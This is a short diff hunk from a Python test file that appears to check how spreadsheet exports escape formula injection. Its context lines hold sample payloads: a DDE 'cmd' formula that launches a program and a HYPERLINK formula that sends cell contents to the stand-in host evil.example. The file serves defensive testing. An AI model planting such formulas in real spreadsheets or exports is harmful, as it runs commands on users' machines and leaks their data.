@@ -14,6 +14,9 @@ from openpyxl.utils.escape import unescape
 
 from conftest import Env, customer, device, order
 
+# the subject is what the documents and file names make of input text, not the ledger
+pytestmark = pytest.mark.sqlite_only
+
 PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\x00", "=\x00")
 BODIES = (
     "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', "1+2", "SUM(A1:A9)",
